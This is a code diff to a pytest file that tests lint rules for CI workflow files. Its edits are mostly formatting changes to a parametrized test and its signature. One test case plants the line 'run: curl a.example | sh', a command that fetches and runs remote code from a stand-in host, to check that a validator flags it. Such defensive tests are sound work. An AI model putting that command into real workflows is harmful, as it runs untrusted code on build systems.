@@ -22,7 +22,7 @@ from tests.workflows.rules import (
 NAMES = {
     "ci.yml", "model.yml", "comment.yml", "main.yml", "retrain.yml", "make.yml", "e2e.yml", "release.yml",
     "rollback.yml", "overlays.yml",
-}  # fmt: skip
+}  # fmt: skip # a table
 CHECKOUT = "actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"
 
 
@@ -69,11 +69,15 @@ def plant(name: str, old: str, new: str, tmp_path_factory: pytest.TempPathFactor
         (check_commands, "model.yml", "run: make judge", "run: curl a.example | sh", "expected a verb"),
         (check_length, "ci.yml", "\njobs:\n", "\njobs:\n" + "\n" * 400, "lines, expected"),
     ],
-)  # fmt: skip
+)
 def test_a_planted_violation_is_found(
-    rule: Callable[[Workflow], Iterator[str]], name: str, old: str, new: str, told: str,
+    rule: Callable[[Workflow], Iterator[str]],
+    name: str,
+    old: str,
+    new: str,
+    told: str,
     tmp_path_factory: pytest.TempPathFactory,
-) -> None:  # fmt: skip
+) -> None:
     found = list(rule(plant(name, old, new, tmp_path_factory)))
     assert len(found) >= 1
     assert told in found[0]
